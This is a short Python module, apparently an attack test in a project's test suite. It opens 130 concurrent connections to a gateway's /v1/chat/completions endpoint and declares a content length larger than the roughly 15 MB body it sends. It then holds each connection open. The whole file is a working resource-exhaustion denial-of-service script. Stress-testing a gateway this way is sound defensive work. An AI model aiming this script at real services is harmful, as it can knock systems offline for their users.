"""Many uploads of nearly 16 MiB at once that never end."""

import asyncio

from tests.attack.target import Target

BODY_BYTES = 15_900_000
PIECE = b" " * (1 << 20)
UPLOADS = 130


async def attack(target: Target) -> None:
    """Begin all of them and hold them."""
    async with asyncio.TaskGroup() as tasks:
        for _ in range(UPLOADS):
            tasks.create_task(_upload(target))


async def _upload(target: Target) -> None:
    reader, writer = await asyncio.open_connection(*target.gateway_address())
    head = f"POST /v1/chat/completions HTTP/1.1\r\nhost: {target.gateway}\r\ncontent-length: {BODY_BYTES + 10}\r\n\r\n"
    writer.write(head.encode())
    try:
        for _ in range(BODY_BYTES // len(PIECE)):
            writer.write(PIECE)
            await writer.drain()
            target.done += 1
        await reader.read()
    except ConnectionError:
        pass
    finally:
        writer.transport.abort()
